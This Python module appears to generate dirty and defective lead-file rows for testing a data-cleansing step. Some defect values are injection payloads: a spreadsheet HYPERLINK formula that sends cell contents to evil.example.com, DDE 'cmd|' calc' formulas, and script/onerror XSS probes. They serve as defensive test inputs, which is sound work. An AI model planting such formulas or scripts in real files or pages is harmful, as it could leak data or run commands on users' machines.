"""What goes wrong with lead files: spellings that cleansing must see through, and defects that it must refuse.

A row is a dict of cells under the words that all sources share: first, last or name, email, phone, company, country,
budget, date, consent. Dirt leaves the meaning of a row as it was; a defect gives it one known reason to be refused.
"""

import html
import unicodedata
from collections.abc import Callable
from random import Random

from .people import Person

Cells = dict[str, str]
Defect = Callable[[Random, Cells], None]

BROKEN = "\udc81"
"""A byte 0x81, which is neither UTF-8 nor Windows-1252, as `surrogateescape` writes it."""

_SPACES = (" ", "  ", "\xa0", " \xa0 ", "\t")
_UNSEEN = ("\u200b", "\ufeff", "\u00ad", "\u2060", "\u200e")


def soil(rng: Random, cells: Cells, chance: float, encoding: str) -> None:
    """Spell cells badly, each with this chance, without changing what they mean."""
    for key, text in cells.items():
        if text and key not in ("date", "budget", "consent") and rng.random() < chance:
            cells[key] = _soiled(rng, key, text, encoding)


def _soiled(rng: Random, key: str, text: str, encoding: str) -> str:
    way = rng.randrange(5)
    if way == 0:
        return f"{rng.choice(_SPACES)}{text}{rng.choice(_SPACES)}"
    if way == 1 and " " in text:
        return text.replace(" ", rng.choice(("  ", "\xa0", " \xa0")))
    if way == 2 and encoding == "utf-8":
        return text[:1] + rng.choice(_UNSEEN) + text[1:] if key != "phone" else text + rng.choice(_UNSEEN)
    if way == 3 and encoding == "utf-8":
        return unicodedata.normalize("NFD", text)
    if way == 4:
        return _respelled(rng, key, text)
    return text + " "


def _respelled(rng: Random, key: str, text: str) -> str:
    if key == "email":
        return rng.choice((text.upper(), text.title(), f"mailto:{text}"))
    if key in ("first", "last", "name") and _recoverable(text):
        return rng.choice((text.upper(), text.lower()))
    if key == "company":
        return html.escape(text, quote=False) if "&" in text else text.replace(" ", "\n", 1)
    return text


def _recoverable(name: str) -> bool:
    """Whether capitals lose nothing: ß becomes SS, a dotless i becomes I, and who knows McAllister."""
    return "ß" not in name and "\u0131" not in name and "Mc" not in name and "." not in name


def phone_as_typed(rng: Random, person: Person) -> str:
    """A number as people type it: in national form only where the row says the country."""
    if not person.national:
        return rng.choice(("", "", "", "-", "n/a"))
    area, number, trunk = person.area, person.national, person.country.trunk
    calling = f"+{person.country.calling}"
    cut = len(number) // 2
    far = [
        f"{calling}{area}{number}",
        f"{calling} {area} {number[:cut]} {number[cut:]}",
        f"{calling} ({area}) {number[:cut]}-{number[cut:]}",
        f"tel:{calling}-{area}-{number}",
    ]
    if trunk:
        far.append(f"{calling} ({trunk}){area} {number}")
    near = [
        f"{trunk}{area} {number}",
        f"({trunk}{area}) {number[:cut]} {number[cut:]}",
        f"{trunk}{area}/{number}",
        f"{trunk}{area}-{number[:cut]}-{number[cut:]}",
        f"{trunk}{area}.{number[:cut]}.{number[cut:]}",
    ]
    return rng.choice(far if person.abroad else far + near)


def _one_of(key: str, *texts: str) -> Defect:
    def spoil(rng: Random, cells: Cells) -> None:
        cells[key] = rng.choice(texts)

    return spoil


def _both(*defects: Defect) -> Defect:
    def spoil(rng: Random, cells: Cells) -> None:
        for defect in defects:
            defect(rng, cells)

    return spoil


def _bad_name(rng: Random, cells: Cells) -> None:
    key = "name" if "name" in cells else "last"
    cells[key] = rng.choice(("", "  ", "=1+1", "<script>alert(1)</script>", "Z" + "a" * 300, "\xa0"))


def _bad_bytes(rng: Random, cells: Cells) -> None:
    key = rng.choice(("company", "name" if "name" in cells else "last"))
    cells[key] = f"M{BROKEN}ller"


_BAD_EMAIL = _one_of(
    "email",
    *("", " ", "\xa0", "anna.example.com", "anna schmidt@example.com", "anna@@example.com", "anna@example"),
    *("anna@example..com", "@example.com", "anna@", ".anna@example.com", "anna@exam_ple.com", "a@b@example.com", "n/a"),
    *("anna@example.com, bob@example.com", "<b>anna@example.com</b>", "x" * 70 + "@example.com", "anna@localhost"),
)
_BAD_EMAIL_GIVEN = _one_of("email", "anna.example.com", "anna@", "anna@@example.com")
_BAD_PHONE = _one_of(
    "phone",
    *("123", "see website", "+999 1234567", "+1 202 555 01234567", "0" * 22, "+49 1", "+44 12", "call me!"),
)
_BAD_COMPANY = _one_of(
    "company",
    *('=HYPERLINK("https://evil.example.com?x="&A1,"Click")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"),
    *("<b>Acme</b> GmbH", '<img src=x onerror="alert(1)">', "Acme " * 1_000, "+1+cmd|'/C calc'!A1"),
)
_BAD_MOMENT = _one_of(
    "date", "yesterday", "2026-13-01T00:00:00Z", "2026-02-30T10:00:00Z", "2026-11-19 09:00:00", "", "1763625600"
)
_BAD_DAY = _one_of("date", "31.02.2026", "2026-11-18", "", "18.11.26", "Mittwoch", "00.11.2026")
_BAD_BUDGETS = {
    "web": _one_of("budget", "12.500,00", "a lot", "-500", "1e5", "12,5", "12.345", "€ 500", "9" * 20),
    "fair": _one_of("budget", "12500.00", "zwölftausend", "-1,00", "1.25.00", "12,500.00", "ca. 500", "9" * 20),
    "partner": _one_of("budget", "lots", "12,000", "EUR", "EUR -5", "€ 12 USD", "XYZ 12k", "EUR 12k-15k"),
}


def defects(source: str) -> dict[str, Defect]:
    """The defects that rows of a source can have, by the reason for which they are refused."""
    budget = _BAD_BUDGETS[source]
    date = _BAD_DAY if source == "fair" else _BAD_MOMENT
    kinds: dict[str, Defect] = {
        "encoding": _bad_bytes,
        "email": _BAD_EMAIL,
        "phone": _BAD_PHONE,
        "name": _bad_name,
        "company": _BAD_COMPANY,
        "country": _one_of("country", "Atlantis", "XX", "Germoney", "??", "12", "U.N.", "Deutschlnad"),
        "budget": budget,
        "date": date,
        "several": _both(_BAD_EMAIL_GIVEN, _BAD_PHONE) if source == "partner" else _both(budget, date),
    }
    if source == "web":
        kinds["consent"] = _one_of("consent", "no", "false", "", "maybe", "off")
    return kinds
